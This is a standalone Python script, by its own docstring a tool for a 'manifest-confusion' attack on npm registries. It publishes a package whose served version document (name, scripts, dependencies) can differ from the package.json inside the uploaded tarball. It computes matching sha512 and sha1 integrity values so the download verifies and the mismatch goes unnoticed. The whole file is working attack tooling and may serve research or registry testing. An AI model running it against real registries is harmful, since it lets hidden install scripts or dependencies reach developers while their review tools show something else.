#!/usr/bin/env python3
"""Publish to an npm registry the way `npm publish` does, but with a version document that
need not match the tarball: the request of a manifest-confusion attack. Standard library only.

  npm_publish_raw.py REGISTRY_URL TOKEN_FILE DOCUMENT_JSON TARBALL_DIR

DOCUMENT_JSON is the version document the registry will serve (`name`, `version`, `scripts`,
`dependencies`, ...). TARBALL_DIR is packed as `package/...` into a gzipped tarball, attached
as `_attachments`; its package.json is what an installer really gets. `dist` (tarball URL,
sha512 integrity, sha1 shasum) is computed from the packed bytes, as npm computes it, so the
download verifies: only the manifests disagree. The registry is never told.

Prints the integrity on success; exits non-zero with the registry's answer otherwise.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import sys
import tarfile
import urllib.error
import urllib.parse
import urllib.request


def pack(directory: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for root, dirs, files in os.walk(directory):
            dirs.sort()
            for name in sorted(files):
                path = os.path.join(root, name)
                rel = os.path.relpath(path, directory).replace(os.sep, "/")
                data = open(path, "rb").read()
                info = tarfile.TarInfo("package/" + rel)
                info.size = len(data)
                info.mode = 0o644
                info.mtime = 499162500  # npm's fixed 1985-10-26 mtime
                tar.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), mtime=0)


def main() -> None:
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    url, token_file, doc_path, tar_dir = sys.argv[1:]
    url = url.rstrip("/")
    token = open(token_file).read().strip()
    doc = json.load(open(doc_path))
    name, version = doc["name"], doc["version"]
    tgz = pack(tar_dir)
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()
    basename = name.rsplit("/", 1)[-1]
    filename = f"{basename}-{version}.tgz"
    doc = dict(doc)
    doc["_id"] = f"{name}@{version}"
    doc["dist"] = {
        "integrity": integrity,
        "shasum": hashlib.sha1(tgz).hexdigest(),
        "tarball": f"{url}/{name}/-/{filename}",
    }
    body = {
        "_id": name,
        "name": name,
        "description": doc.get("description", ""),
        "dist-tags": {"latest": version},
        "versions": {version: doc},
        "access": None,
        "_attachments": {
            filename: {
                "content_type": "application/octet-stream",
                "data": base64.b64encode(tgz).decode(),
                "length": len(tgz),
            }
        },
    }
    req = urllib.request.Request(
        f"{url}/{urllib.parse.quote(name, safe='@')}",
        data=json.dumps(body).encode(),
        method="PUT",
        headers={
            "content-type": "application/json",
            "authorization": f"Bearer {token}",
            "npm-command": "publish",
        },
    )
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            r.read()
    except urllib.error.HTTPError as e:
        sys.exit(f"publish of {name}@{version} failed: HTTP {e.code}: {e.read()[:500]!r}")
    print(integrity)


if __name__ == "__main__":
    main()
